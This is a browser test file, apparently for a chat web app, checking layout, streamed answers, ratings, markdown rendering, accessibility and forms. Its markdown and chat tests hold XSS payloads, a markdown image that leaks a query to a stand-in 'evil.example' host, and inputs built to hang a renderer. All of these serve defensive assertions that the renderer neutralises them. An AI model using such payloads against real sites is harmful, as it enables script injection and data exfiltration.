"""What the scripts do, in a real browser under the real policy. Its complaints fail each test."""

import pytest
from playwright.async_api import Page, expect

from app.web.render import environment
from tests.web.gallery import ASKED

pytestmark = pytest.mark.browser
PATHS = ["/", "/components", "/table", "/usage", "/chat", "/chat/1", "/enquiry"]


async def ask(page: Page, text: str, path: str = "/chat") -> None:
    await page.goto(path)
    await page.get_by_label("Your message").fill(text)
    await page.keyboard.press("Enter")


# Labels of an axis, each with the one before it.
OVERLAPS = """[...document.querySelectorAll(".chart-labels")].flatMap((axis) => {
  const texts = [...axis.querySelectorAll("text")].filter((one) => one.checkVisibility());
  return texts.slice(1).filter((one, n) =>
    one.getBoundingClientRect().left < texts[n].getBoundingClientRect().right + 2
  ).map((one) => one.textContent);
})"""


@pytest.mark.asvs("3.4.3")
async def test_pages_fit_and_break_no_rule_of_the_policy(
    page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = "Żółć & " + "Donaudampfschifffahrt" * 2
    monkeypatch.setitem(environment().globals["project"], "name", name)
    root = "document.documentElement"
    for path in PATHS:
        await page.goto(path)
        for width in (1280, 390, 320):
            await page.set_viewport_size({"width": width, "height": 844})
            fits = await page.evaluate(f"{root}.scrollWidth <= {root}.clientWidth")
            assert fits, f"{path} at {width} px"
            assert await page.evaluate(OVERLAPS) == [], f"{path} at {width} px"


async def test_an_answer_is_drawn_as_it_arrives_and_its_markup_stays_text(page: Page) -> None:
    await ask(page, "How do I end a session?")

    answer = page.locator(".message-assistant")
    await expect(answer.get_by_role("button", name="Good answer")).to_be_visible()
    await expect(answer.locator("strong")).to_have_text(["end sessions", "End all other sessions"])
    await expect(answer.locator(".prose > ol > li")).to_have_count(2)
    await expect(answer.locator("pre")).to_contain_text("sessions.end_all(db")
    await expect(answer.locator(".prose img, .prose script")).to_have_count(0)
    await expect(answer.locator(".prose")).to_contain_text("<img src=x onerror=alert(1)>")
    links = answer.locator(".prose a")
    await expect(links).to_have_count(1)
    await expect(links).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(answer.get_by_text("Stand-in", exact=True)).to_be_visible()
    await expect(page).to_have_url("/chat/019c1f0e-7b3a-7d2f-8000-000000000000")


async def test_sources_unfold_and_a_rating_is_kept(page: Page) -> None:
    await ask(page, "How do I end a session?")
    answer = page.locator(".message-assistant")

    await answer.get_by_text("1 source").click()
    await expect(answer.get_by_role("link", name="Sessions")).to_have_attribute("href", "/docs")
    good = answer.get_by_role("button", name="Good answer")
    await good.click()
    await expect(page.get_by_text("Your rating is kept")).to_be_attached()
    await expect(good).to_have_attribute("aria-pressed", "true")


async def test_a_bad_rating_asks_why(page: Page) -> None:
    await ask(page, "How do I end a session?")
    await page.get_by_role("button", name="Bad answer").click()
    dialog = page.get_by_role("dialog", name="What was wrong")

    await dialog.get_by_label("Comment").fill("It is about another app.")
    async with page.expect_request("**/api/feedback/call-1") as sent:
        await dialog.get_by_role("button", name="Send").click()

    request = await sent.value
    assert request.method == "PUT"
    assert request.post_data_json == {
        "rating": "down",
        "comment": "It is about another app.",
        "correction": "",
    }
    await expect(dialog).to_be_hidden()


async def test_an_answer_can_be_stopped_and_what_came_stays(page: Page) -> None:
    await ask(page, "a long one")
    answer = page.locator(".message-assistant")
    await expect(answer.locator("p")).to_contain_text("word word word")

    await page.get_by_role("button", name="Stop").click()

    await expect(answer.get_by_text("Stopped", exact=True)).to_be_visible()
    await expect(answer).not_to_have_attribute("aria-busy", "true")
    await expect(page.get_by_role("button", name="Send")).to_be_visible()


async def test_a_refused_message_is_not_lost_and_can_be_sent_again(page: Page) -> None:
    await ask(page, "refuse me")
    message = page.get_by_label("Your message")

    await expect(page.get_by_role("alert")).to_contain_text("Please wait 20 seconds.")
    await expect(message).to_have_value("refuse me")
    await expect(page.locator(".message")).to_have_count(0)
    await expect(page.get_by_role("heading", level=1)).to_be_visible()
    await message.fill("better")
    await page.get_by_role("button", name="Try again").click()
    await expect(page.get_by_role("button", name="Good answer")).to_be_visible()
    await expect(page.get_by_role("alert")).to_be_hidden()


@pytest.mark.parametrize(
    ("text", "told"), [("break", "The model went away."), ("cut", "The connection was lost")]
)
async def test_an_answer_that_breaks_off_says_so_and_keeps_both_texts(
    page: Page, text: str, told: str
) -> None:
    await ask(page, text)

    await expect(page.get_by_role("alert")).to_contain_text(told)
    await expect(page.get_by_text("Interrupted", exact=True)).to_be_visible()
    await expect(page.locator(".message-assistant .prose")).to_contain_text("You can")
    await expect(page.get_by_label("Your message")).to_have_value(text)


async def test_a_question_sent_again_stays_one_question(page: Page) -> None:
    ASKED.clear()
    await ask(page, "break it")
    again = page.get_by_role("button", name="Try again")
    await again.click()
    await expect(page.get_by_text("Interrupted", exact=True)).to_be_visible()
    await expect(page.locator(".message-person")).to_have_count(1)
    await page.get_by_label("Your message").fill("break something else")
    await page.keyboard.press("Enter")
    await expect(page.locator(".message-person")).to_have_count(2)
    await expect(again).to_be_visible()

    (first, one), (second, two), (third, three) = ASKED
    assert first == second == "break it"
    assert one == two != three
    assert third == "break something else"


async def test_an_answer_that_is_withheld_disappears(page: Page) -> None:
    await ask(page, "replace it")

    await expect(page.locator(".message-assistant .prose")).to_have_text("This was withheld.")


async def test_shift_and_enter_begin_a_new_line(page: Page) -> None:
    await page.goto("/chat")
    message = page.get_by_label("Your message")

    await message.press_sequentially("one")
    await message.press("Shift+Enter")
    await message.press_sequentially("two")

    await expect(message).to_have_value("one\ntwo")
    await expect(page.locator(".message")).to_have_count(0)


async def test_reading_above_is_not_disturbed_by_what_arrives_below(page: Page) -> None:
    await page.set_viewport_size({"width": 700, "height": 420})
    await ask(page, "a long one")
    scroller, text = page.locator("[data-scroll]"), page.locator(".message-assistant .prose")
    latest = page.get_by_role("button", name="Latest")
    await expect(text).to_contain_text("word " * 80)
    assert await scroller.evaluate("e => e.scrollTop + e.clientHeight > e.scrollHeight - 2")

    await scroller.evaluate("e => e.scrollTo(0, 0)")
    await expect(latest).to_be_visible()
    seen = await text.inner_text()
    await expect(text).to_contain_text(seen + " word" * 10)
    assert await scroller.evaluate("e => e.scrollTop") == 0
    await latest.click()
    await expect(latest).to_be_hidden()


MARKDOWN = {
    "a\nb\n\nc": "<p>a\nb</p><p>c</p>",
    "# One\ntext": "<h3>One</h3><p>text</p>",
    "- a\n- b\n  - c\n- d": "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "> a\n> b": "<blockquote><p>a\nb</p></blockquote>",
    "**a *b* c** `**d**`": "<p><strong>a <em>b</em> c</strong> <code>**d**</code></p>",
    "2 * 3 * 4 and snake_case_name": "<p>2 * 3 * 4 and snake_case_name</p>",
    "**open": "<p>**open</p>",
    "---": "<hr>",
    "[x](javascript:alert(1))": "<p><span>x</span></p>",
    "[x](data:text/html,y)": "<p><span>x</span></p>",
    "[x](/sign-out)": "<p><span>x</span></p>",
    "<b onclick=x>&amp;</b>": "<p>&lt;b onclick=x&gt;&amp;amp;&lt;/b&gt;</p>",
}


@pytest.mark.asvs("1.3.5")
async def test_markdown_becomes_elements_and_nothing_else_does(page: Page) -> None:
    await page.goto("/chat")

    drawn = await page.evaluate(
        "texts => texts.map(text => { const at = document.createElement('div');"
        " markdown.show(at, text); return [text, at.innerHTML]; })",
        list(MARKDOWN),
    )

    assert dict(drawn) == MARKDOWN


async def test_an_image_in_an_answer_is_a_link_and_asks_no_server(page: Page) -> None:
    await page.goto("/chat")
    drawn = await page.evaluate(
        "() => { const at = document.createElement('div');"
        " markdown.show(at, '![secret](https://evil.example/?q=1)');"
        " return [at.querySelectorAll('img').length, at.querySelector('a').title]; }"
    )

    assert drawn == [0, "evil.example"]


async def test_text_made_to_hang_a_page_is_drawn_in_time(page: Page) -> None:
    await page.goto("/chat")
    milliseconds = await page.evaluate(
        "() => { const at = document.createElement('div'), start = performance.now();"
        " for (const one of ['> ', '**', '`', '[', '[a](', '*a _b ', '- ', '|', '~~~\\n', '((']) {"
        "   markdown.show(at, one.repeat(20000 / one.length)); at.replaceChildren(); }"
        " return performance.now() - start; }"
    )

    assert milliseconds < 4000


async def test_the_theme_is_chosen_once_and_stays(page: Page) -> None:
    await page.emulate_media(color_scheme="light")
    await page.goto("/table")
    ground = "getComputedStyle(document.body).backgroundColor"
    light = await page.evaluate(ground)

    await page.get_by_role("button", name="Dark theme").click()
    dark = await page.evaluate(ground)
    await page.goto("/usage")

    assert light != dark == await page.evaluate(ground)
    await page.get_by_role("button", name="Dark theme").click()
    assert await page.evaluate("document.cookie") == ""


async def test_on_a_phone_the_navigation_is_a_drawer(page: Page) -> None:
    await page.set_viewport_size({"width": 390, "height": 844})
    await page.goto("/table")
    link = page.get_by_role("link", name="Usage")
    await expect(link).to_be_hidden()

    await page.get_by_role("button", name="Navigation").click()
    await expect(link).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(link).to_be_hidden()
    await expect(page.get_by_role("button", name="Navigation")).to_be_focused()


async def test_the_keyboard_reaches_the_content_first(page: Page) -> None:
    await page.goto("/table")

    await page.keyboard.press("Tab")
    await expect(page.get_by_role("link", name="Skip to content")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator("main")).to_be_focused()


async def test_a_dialog_opens_closes_and_gives_the_focus_back(page: Page) -> None:
    await page.goto("/components")
    opener = page.get_by_role("button", name="Delete").first

    await opener.click()
    dialog = page.get_by_role("dialog", name="Delete this person?")
    await expect(dialog.get_by_label("Type DELETE")).to_be_focused()
    await dialog.get_by_role("button", name="Cancel").click()

    await expect(dialog).to_be_hidden()
    await expect(opener).to_be_focused()


async def test_the_account_menu_closes_on_escape_and_outside(page: Page) -> None:
    await page.goto("/table")
    entry, menu = page.get_by_role("link", name="Security"), page.locator("summary").first

    await menu.click()
    await expect(entry).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(entry).to_be_hidden()
    await menu.click()
    await page.get_by_role("heading", level=1).click()
    await expect(entry).to_be_hidden()


async def test_a_form_is_sent_once_however_often_it_is_clicked(page: Page) -> None:
    sent: list[str] = []
    page.on("request", lambda one: sent.append(one.url) if one.method == "POST" else None)
    await page.goto("/enquiry")

    await page.evaluate(
        "() => { const b = document.querySelector('main button[type=submit]');"
        " b.click(); b.click(); b.click(); }"
    )
    await expect(page.get_by_role("alert").first).to_be_focused()

    assert len(sent) == 1


@pytest.mark.asvs("6.2.6")
async def test_a_password_can_be_shown_while_typing(page: Page) -> None:
    await page.goto("/enquiry")
    field = page.get_by_label("Password", exact=True)

    await page.get_by_role("button", name="Show password").click()
    await expect(field).to_have_attribute("type", "text")
    await page.get_by_role("button", name="Show password").click()
    await expect(field).to_have_attribute("type", "password")


@pytest.mark.asvs("6.2.7")
async def test_a_password_can_be_pasted(page: Page) -> None:
    await page.goto("/enquiry")
    # Copied by keys: the clipboard that scripts see can wait for ever where there is no screen.
    await page.get_by_label("Name", exact=True).fill("from a manager: ü 漢 ")
    await page.keyboard.press("ControlOrMeta+A")
    await page.keyboard.press("ControlOrMeta+C")
    field = page.get_by_label("Password", exact=True)

    await field.focus()
    await page.keyboard.press("ControlOrMeta+V")

    await expect(field).to_have_value("from a manager: ü 漢 ")


async def test_good_news_goes_by_itself_and_bad_news_stays(page: Page) -> None:
    await page.clock.install()
    await page.goto("/table")
    await page.evaluate("app.toast('<b>Saved</b>', 'success'); app.toast('Failed', 'danger');")
    good, bad = page.get_by_text("<b>Saved</b>"), page.get_by_text("Failed")
    await expect(good).to_be_visible()

    await page.clock.fast_forward(10_000)

    await expect(good).to_have_count(0)
    await expect(bad).to_be_visible()
    await page.get_by_role("button", name="Dismiss").click()
    await expect(bad).to_have_count(0)


async def test_times_tell_the_local_time_on_hover(page: Page) -> None:
    await page.goto("/table")

    title = await page.locator("time").first.get_attribute("title")

    assert title is not None
    assert "2026" in title
